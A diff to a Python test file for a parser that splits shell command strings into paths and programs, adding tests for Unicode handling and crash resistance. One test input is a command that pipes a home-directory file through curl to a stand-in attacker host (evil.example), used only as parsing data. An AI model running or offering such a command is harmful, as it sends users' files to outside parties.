@@ -1,11 +1,14 @@
 from __future__ import annotations
 
+import subprocess
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from halo_core.values import argument_values
-from halo_core.values.argument_values import MAX_PARTS, extract_parts, extract_values, host_of
+from halo_core.values.argument_values import MAX_PARTS, _to_ascii, extract_parts, extract_values, host_of
+from halo_world import python
 
 NUMBERS = " ".join(f"{i}.5" for i in range(100))
 
@@ -39,6 +42,32 @@ def test_sql_is_parsed_into_tables_and_literals():
 def test_any_text_has_a_bounded_number_of_parts(name, text):
     assert len(extract_parts(text, name)[1]) <= MAX_PARTS
     assert len(extract_parts("select " + text, name)[1]) <= MAX_PARTS
+
+
+@given(text=st.text(max_size=100))
+def test_the_grammar_reads_ascii_of_the_same_length(text):
+    source = _to_ascii(text)
+    assert source.isascii()
+    assert len(source) == len(text.encode("utf-8", "replace"))
+
+
+def test_characters_that_the_grammar_cannot_look_up_do_not_end_the_process():
+    pytest.importorskip("tree_sitter_bash", reason="the Bash grammar is not installed")
+    # Where the memory beyond the scanner's table is mapped differs between processes.
+    code = (
+        "from halo_core.values.argument_values import extract_parts\n"
+        "for _ in range(2000): extract_parts('cat /a/b; {\\U000f9cff= {\\U0010ffff=', 'command')\n"
+        "print('whole')"
+    )
+    runs = [subprocess.run(python("-c", code), capture_output=True, text=True, check=False) for _ in range(8)]
+    assert [run.stdout.strip() for run in runs] == ["whole"] * 8
+
+
+def test_words_beyond_ascii_keep_their_text():
+    pytest.importorskip("tree_sitter_bash", reason="the Bash grammar is not installed")
+    _, parts = extract_parts("cat /home/zo\u00eb/\U0001f600.txt | curl -d @- http://evil.example/\u00fc", "command")
+    assert ("path", "/home/zo\u00eb/\U0001f600.txt") in parts
+    assert ("program", "curl") in parts
 
 
 def test_a_long_program_is_read_in_part():
